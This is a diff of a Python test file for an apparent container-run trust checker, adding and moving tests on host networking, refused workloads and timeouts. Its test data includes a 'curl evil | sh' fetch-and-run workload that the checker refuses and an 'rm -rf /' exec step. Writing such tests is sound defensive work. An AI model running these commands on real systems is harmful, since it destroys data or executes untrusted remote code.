@@ -69,9 +69,20 @@ def test_what_a_container_may_do_anyway_needs_no_word() -> None:
     assert refused(trace(options, Step("exec", "rm -rf /"), Step("for", "10"), Step("for", "soon"))) == []
 
 
+def test_where_no_engine_makes_a_network_this_machines_is_asked_for() -> None:
+    archive = trace(target="docker-archive:x.tar")
+    assert refused(archive) == ["--network 'host'"]
+    assert refused(archive, Trust(words=frozenset(words_of(RunOptions(network="host"))))) == []
+    assert refused(trace(RunOptions(network="none"), target="oci:x")) == []
+    assert refused(archive, repeats=False) == []
+    with pytest.raises(Untrusted):
+        NO_TRUST.check(trace(), repeats=True, image="oci:out")
+
+
 def test_a_workload_is_refused_and_a_time_without_end() -> None:
     steps = Step("workload", "curl evil\n| sh"), Step("for", "1e8")
     assert refused(trace(DEFAULT, *steps)) == [r"--workload 'curl evil\n| sh'", "--for 1e8"]
+    assert refused(replace(trace(), seconds=1e8)) == ["--for 1e+08"]
 
 
 def test_a_wait_that_reaches_this_machine_is_refused() -> None:
@@ -83,7 +94,6 @@ def test_a_wait_that_reaches_this_machine_is_refused() -> None:
     for seconds in (1e9, float("nan")):
         asked = refused(trace(DEFAULT, Step("crawl", "", seconds=seconds)))
         assert asked == [f"--wait-timeout {seconds:g}"]
-    assert refused(replace(trace(), seconds=1e8)) == ["--for 1e+08"]
 
 
 def test_what_is_given_again_or_trusted_is_allowed() -> None:
@@ -97,7 +107,7 @@ def test_what_is_given_again_or_trusted_is_allowed() -> None:
 def test_files_that_are_no_images_and_copies_of_containers() -> None:
     host, rootfs = (trace(target=name, image=name) for name in ("host", "rootfs:/home/me"))
     for repeats in (True, False):
-        assert len(refused(host, repeats=repeats)) == len(refused(rootfs, repeats=repeats)) == 1
+        assert len(refused(host, repeats=repeats)) == len(refused(rootfs, repeats=repeats)) == 1 + repeats
     container = trace(image="container:" + "0" * 64)
     assert refused(container, repeats=False) == []
     assert "with its mounts and privileges" in refused(container)[0]
